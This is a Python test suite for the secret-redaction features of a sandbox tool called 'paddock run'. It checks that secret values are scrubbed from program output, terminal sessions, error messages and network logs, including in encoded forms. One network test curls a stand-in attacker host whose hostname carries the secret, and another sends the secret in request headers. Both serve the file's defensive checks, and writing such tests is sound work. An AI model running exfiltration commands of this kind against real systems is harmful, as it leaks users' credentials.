"""Secrets stay in: what `paddock run` prints, reports and writes down, in every form in which programs print them."""
import base64
import json
import os
import pty
import select
import shutil
import tempfile
import time
import unittest
import urllib.parse

from support import internet, paddock
from support.paddock import on_both

SECRET = "hunter2/hunter+2=Xyzzy&\"q"
GITHUB = "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345"
# Printed one letter at a time, each in a write of its own.
SLOWLY = "import os, sys, time\nfor c in os.environ['KEY']:\n  os.write(int(sys.argv[1]), c.encode())\n  time.sleep(0.005)\nos.write(int(sys.argv[1]), b' end\\n')"


class OutputTest(unittest.TestCase):
    def json(self, user, wall, *arguments, **options):
        return paddock.run_json("--wall", wall, "--secret", f"KEY={SECRET}", *arguments, user=user, **options)

    @on_both
    def test_a_value_in_every_form_through_real_programs(self, user, wall):
        shell = {"printf %s \"$KEY\"": SECRET, "printf 'xx%s' \"$KEY\" | base64 -w0": None, "printf 'x%s' \"$KEY\" | base64 -w0": None,
                 "printf %s \"$KEY\" | base64 -w0": base64.b64encode(SECRET.encode()).decode(), "printf %s \"$KEY\" | base64 -w0 | tr +/ -_": None,
                 "printf %s \"$KEY\" | od -An -v -tx1 | tr -d ' \\n'": SECRET.encode().hex(), "printf %s \"$KEY\" | iconv -t UTF-16LE": None}
        python = {"import os,urllib.parse as u; print(u.quote(os.environ['KEY'], safe=''))": urllib.parse.quote(SECRET, safe=""),
                  "import os,json; print(json.dumps({'a': os.environ['KEY']}))": json.dumps(SECRET)[1:-1], "import os; print(os.environ['KEY'].encode().hex().upper())": None}
        for command, plain in [*((["sh", "-c", c], p) for c, p in shell.items()), *((["python3", "-c", c], p) for c, p in python.items())]:
            result = self.json(user, wall, "--", *command)
            self.assertIn("[redacted:KEY]", result["stdout"], command)
            self.assertEqual((result["redactions"], result["redacted"]), (1, {"KEY": 1}), command)
            if plain:
                self.assertNotIn(plain, json.dumps(result))

    @on_both
    def test_split_over_writes_and_on_both_streams(self, user, wall):
        for stream, name in (("1", "stdout"), ("2", "stderr")):
            result = self.json(user, wall, "--", "python3", "-c", SLOWLY, stream)
            self.assertEqual((result[name], result["redacted"]), ("[redacted:KEY] end\n", {"KEY": 1}))

    @on_both
    def test_streams_are_apart(self, user, wall):
        # Half of it on stdout and half on stderr is no secret on either, and neither half holds the other up.
        done = paddock.run("--wall", wall, "--secret", "KEY=abcdefghijklmnop", "--", "sh", "-c", "printf abcdefgh; printf ijklmnop >&2", user=user)
        self.assertEqual((done.stdout, done.stderr), ("abcdefgh", "ijklmnop"))

    @on_both
    def test_kinds_are_found_and_told_on_stderr(self, user, wall):
        done = paddock.run("--wall", wall, "--secret", f"KEY={SECRET}", "--", "sh", "-c", f"echo {GITHUB}; printf '%s\\n' \"$KEY\"", user=user)
        self.assertEqual((done.stdout, done.stderr), ("[redacted:github-token]\n[redacted:KEY]\n", "paddock: redacted: 2 (KEY 1, github-token 1)\n"))
        quiet = paddock.run("--wall", wall, "--quiet", "--", "echo", GITHUB, user=user)
        self.assertEqual((quiet.stdout, quiet.stderr), ("[redacted:github-token]\n", ""))

    @on_both
    def test_what_is_no_secret_passes_untouched(self, user, wall):
        script = "import sys; sys.stdout.buffer.write(bytes(range(256)) * 4000)"
        done = paddock.run("--wall", wall, "--secret", f"KEY={SECRET}", "--", "python3", "-c", script, user=user, text=False)
        self.assertEqual(done.stdout, bytes(range(256)) * 4000)

    @on_both
    def test_the_output_limit_counts_what_the_program_printed(self, user, wall):
        result = paddock.run_json("--wall", wall, "--secret", "KEY=abcd", "--output-limit", "40", "--", "sh", "-c", "for i in 1 2 3 4 5 6 7 8 9 0; do printf abcd; done", user=user)
        self.assertEqual((result["outcome"]["kind"], result["stdout"], result["limits_hit"]), ("exited", "[redacted:KEY]" * 10, []))

    @on_both
    def test_where_the_output_limit_cuts_nothing_of_it_is_shown(self, user, wall):
        result = paddock.run_json("--wall", wall, "--secret", "KEY=hunter22hunter22", "--output-limit", "20", "--", "sh", "-c", "printf 12345$KEY", user=user)
        self.assertNotIn("hunt", result["stdout"])
        self.assertTrue(result["stdout"].startswith("12345"), result)

    @on_both
    def test_errors_and_notes_do_not_quote_it(self, user, wall):
        for arguments in (["--", "/no/xyzzy-secret-name"], ["--read", "/no/xyzzy-secret-name", "--", "true"], ["--policy", "/no/xyzzy-secret-name", "--", "true"],
                          ["--workspace", "/no/xyzzy-secret-name", "--", "true"], ["--file", "/no/xyzzy-secret-name.py"]):
            for more in ([], ["--json"]):
                done = paddock.run("--wall", wall, *more, "--secret", "KEY=xyzzy-secret-name", *arguments, user=user)
                self.assertNotIn("xyzzy-secret-name", done.stdout + done.stderr, arguments)
                self.assertIn("[redacted:KEY]", done.stdout + done.stderr, arguments)
        self.assertNotIn(GITHUB, paddock.run("--wall", wall, "--", f"/no/{GITHUB}", user=user).stderr)


class RulesTest(unittest.TestCase):
    def test_a_policy_adds_patterns_of_its_own(self):
        policy = paddock.policy_file(self, '[[redact.custom]]\nname = "ticket"\npattern = "TICKET-[0-9]{6}"\n')
        for user in paddock.USERS:
            result = paddock.run_json("--policy", policy, "--", "echo", "TICKET-123456 TICKET-12", user=user)
            self.assertEqual((result["stdout"], result["redacted"]), ("[redacted:ticket] TICKET-12\n", {"ticket": 1}))

    def test_what_cannot_be_used_is_refused_with_its_key(self):
        for text, key in (('[[redact.custom]]\nname = "bad"\npattern = "a("\n', "redact.custom.bad"),
                          ('[redact]\nskip = ["github-tokens"]\n[danger]\nallow = ["redact.less"]\n', "redact.skip")):
            done = paddock.run("--policy", paddock.policy_file(self, text), "--", "true")
            self.assertEqual(done.returncode, 125)
            self.assertIn(key, done.stderr)

    def test_a_kind_can_be_left_in_by_danger_and_is_told(self):
        policy = paddock.policy_file(self, '[redact]\nskip = ["github-token"]\n[danger]\nallow = ["redact.less"]\n')
        for user in paddock.USERS:
            result = paddock.run_json("--policy", policy, "--", "echo", GITHUB, user=user)
            self.assertEqual((result["stdout"], result["redactions"]), (GITHUB + "\n", 0))
            self.assertIn("redact.less", result["weakened"])


class TerminalTest(unittest.TestCase):
    def read_until(self, terminal, text, seconds=30):
        seen, end = b"", time.monotonic() + seconds
        while text not in seen:
            self.assertLess(time.monotonic(), end, seen)
            if select.select([terminal], [], [], 1)[0]:
                try:
                    seen += os.read(terminal, 4096)
                except OSError:
                    self.fail(f"the terminal closed: {seen}")
        return seen

    def test_a_prompt_appears_at_once_and_the_value_does_not(self):
        for user in paddock.USERS:
            pid, terminal = paddock.start_on_terminal(self, user, "--secret", "KEY=correct-horse", "--", "sh", "-c", "printf 'your name? '; read name; printf 'hello %s\\n' $name; echo $KEY; echo done")
            self.read_until(terminal, b"your name? ")
            for letter in b"cor":  # as the secret begins: each letter is echoed while it is typed
                os.write(terminal, bytes([letter]))
                self.read_until(terminal, bytes([letter]))
            os.write(terminal, b"y\n")
            seen = self.read_until(terminal, b"done")
            self.assertIn(b"hello cory", seen)
            self.assertIn(b"[redacted:KEY]", seen)
            self.assertNotIn(b"correct-horse", seen)
            self.assertEqual(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]), 0)

    def test_split_by_sleeps_it_is_still_caught(self):
        for user in paddock.USERS:
            pid, terminal = paddock.start_on_terminal(self, user, "--secret", "KEY=correct-horse", "--", "sh", "-c", "for part in corr ect-h orse; do printf $part; sleep 0.3; done; echo ' done'")
            seen = self.read_until(terminal, b"done")
            self.assertNotIn(b"rect-horse", seen)
            self.assertIn(b"[redacted:KEY] done", seen)
            os.waitpid(pid, 0)


class NetworkTest(internet.Case):
    @internet.as_each_user
    def test_the_networks_log_is_redacted_everywhere(self, user):
        folder = paddock.folder(user)
        self.addCleanup(shutil.rmtree, folder, ignore_errors=True)
        log = os.path.join(folder, "network.log")
        result = self.net.run_json("--allow-net", "good.example:80", "--secret", "KEY=correct-horse", "--network-log", log, "--", "sh", "-c",
                                   "curl -sS http://good.example/correct-horse -o /dev/null; curl -sS http://correct-horse.evil.example/", user=user)
        self.assertNotIn("correct-horse", json.dumps(result))
        self.assertIn("[redacted:KEY].evil.example", json.dumps(result["denials"]))
        self.assertIn("/[redacted:KEY]", [entry.get("path") for entry in result["network"]["requests"]])
        with open(log) as file:
            entries = [json.loads(line) for line in file]
        self.assertIn("/[redacted:KEY]", [entry.get("path") for entry in entries])
        self.assertNotIn("correct-horse", json.dumps(entries))

    @internet.as_each_user
    def test_headers_that_a_server_echoes_are_redacted(self, user):
        result = self.net.run_json("--allow-net", "good.example:80", "--secret", "KEY=correct-horse", "--", "sh", "-c",
                                   "curl -sS -u user:$KEY -H \"X-Key: $KEY\" http://good.example/echo", user=user)
        self.assertIn("[redacted:KEY]", result["stdout"])
        self.assertNotIn("correct-horse", result["stdout"])
        self.assertNotIn(base64.b64encode(b"user:correct-horse").decode().rstrip("="), result["stdout"])


if __name__ == "__main__":
    paddock.main()
